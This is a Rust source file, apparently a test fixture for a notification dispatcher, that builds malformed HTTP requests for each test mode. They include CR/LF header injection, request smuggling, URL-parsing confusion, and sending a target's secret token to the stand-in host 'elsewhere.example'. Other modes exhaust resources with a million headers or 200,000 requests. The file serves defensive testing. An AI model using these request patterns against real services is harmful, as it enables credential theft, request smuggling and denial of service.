//! Requests that nobody should send.

use std::hint::black_box;

use crate::generated::nuncio::dispatch::types::{Escape, Header, Notification, Request, Secret, Segment};
use crate::{Target, excess};

/// An origin that no target names.
const ELSEWHERE: &str = "http://elsewhere.example:81/";

/// The requests that a target's mode asks for; `ok` is the target of that name.
pub fn of(target: &Target, ok: Option<&Target>, notification: &Notification) -> Vec<Request> {
    let request = |url: &str| Request {
        method: "POST".into(),
        url: vec![text(url)],
        query: vec![],
        headers: vec![],
        body: vec![text(&notification.title)],
        timeout: 10_000,
    };
    let own = || secret(&target.token);
    let plain = request(&target.url);
    let (scheme, rest) = target.url.split_once("//").unwrap_or_default();
    let host = rest.trim_end_matches('/');
    let mode = target.mode.as_str();
    if let Some(character) = mode.strip_prefix("name-with-").and_then(character) {
        return vec![Request { headers: vec![header(&format!("x-a{character}x-b"), "c")], ..plain }];
    }
    if let Some(character) = mode.strip_prefix("value-with-").and_then(character) {
        return vec![Request { headers: vec![header("x-a", &format!("b{character}x-c: d"))], ..plain }];
    }
    if let Some(character) = mode.strip_prefix("url-with-").and_then(character) {
        return vec![request(&format!("{}a{character}x-b: c", target.url))];
    }
    match mode {
        "recurses" => vec![request(&excess::recurse(black_box(1)).to_string())],
        "twice" => vec![request(&format!("{}1", target.url)), request(&format!("{}2", target.url))],
        "nothing" => vec![],
        "method" => vec![Request { method: "BREW".into(), ..plain }],
        "smuggles" => vec![Request { headers: vec![header("Transfer-Encoding", "chunked")], ..plain }],
        "userinfo" => vec![request(&format!("{scheme}//me:mine@{host}/"))],
        "open-elsewhere" => vec![request(ELSEWHERE)],
        "other-origin" => vec![Request { body: vec![own()], ..request(ELSEWHERE) }],
        // To some who read URLs, what is before the @ is a user name.
        "backslash" => {
            vec![Request { body: vec![own()], ..request(&format!("http://elsewhere.example:81\\@{host}/")) }]
        }
        "secret-in-the-host" => {
            let url = vec![text("http://"), own(), text(".elsewhere.example:81/")];
            vec![Request { url, ..plain }]
        }
        "other-secret" => {
            let token = ok.map_or("", |ok| ok.token.as_str());
            vec![Request { body: vec![secret(token)], ..plain }]
        }
        "wrong-target" => {
            let url = ok.map_or("", |ok| ok.url.as_str());
            vec![Request { body: vec![own()], ..request(url) }]
        }
        "unknown-secret" => vec![Request { body: vec![secret(&excess::text())], ..plain }],
        "echo" => {
            let headers = vec![Header { name: "authorization".into(), value: vec![text("Bearer "), own()] }];
            vec![Request { headers, body: vec![text("token="), own()], ..plain }]
        }
        "timeout-0" => vec![Request { timeout: 0, ..plain }],
        "timeout-at-max" => vec![Request { timeout: u64::MAX, ..plain }],
        "too-many-headers" => {
            vec![Request { headers: (0..1_000_000).map(|_| header("", "")).collect(), ..plain }]
        }
        "many-headers" => vec![Request { headers: (0..65).map(|_| header("x", "y")).collect(), ..plain }],
        "too-many-requests" => {
            let empty = || Request {
                method: String::new(),
                url: vec![],
                query: vec![],
                headers: vec![],
                body: vec![],
                timeout: 0,
            };
            (0..200_000).map(|_| empty()).collect()
        }
        "same-text" => {
            vec![Request { body: excess::same_text().into_iter().map(Segment::Text).collect(), ..plain }]
        }
        "long-body" => vec![Request { body: vec![text(&excess::text())], ..plain }],
        _ => vec![plain],
    }
}

/// The character of a number in hexadecimal.
fn character(code: &str) -> Option<char> {
    u32::from_str_radix(code, 16).ok().and_then(char::from_u32)
}

fn text(text: &str) -> Segment {
    Segment::Text(text.to_owned())
}

fn secret(name: &str) -> Segment {
    Segment::Secret(Secret { name: name.to_owned(), escape: Escape::Verbatim })
}

fn header(name: &str, value: &str) -> Header {
    let value = if value.is_empty() { vec![] } else { vec![text(value)] };
    Header { name: name.to_owned(), value }
}
